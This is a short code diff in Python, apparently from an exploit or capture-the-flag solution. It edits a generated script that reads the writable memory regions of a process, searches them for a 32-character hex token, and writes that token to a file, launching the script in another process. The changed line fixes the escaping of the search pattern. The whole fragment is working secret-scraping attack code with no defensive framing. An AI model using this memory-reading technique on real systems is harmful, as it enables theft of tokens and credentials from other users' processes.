@@ -78,7 +78,7 @@ FORGING = {
             "    if 'rw-p' not in line: continue",
             "    low, high = (int(x, 16) for x in line.split()[0].split('-'))",
             "    memory.seek(low)",
-            "    found = re.search(rb'\\\\["([0-9a-f]{32})", ', memory.read(high - low))",
+            "    found = re.search(rb'\\\\x5b\\\\x22([0-9a-f]{32})\\\\x22, ', memory.read(high - low))",
             f"    if found: open({place!r}, 'wb').write(found[1])",
         ]
         try: run(others.create(), chr(10).join(look))
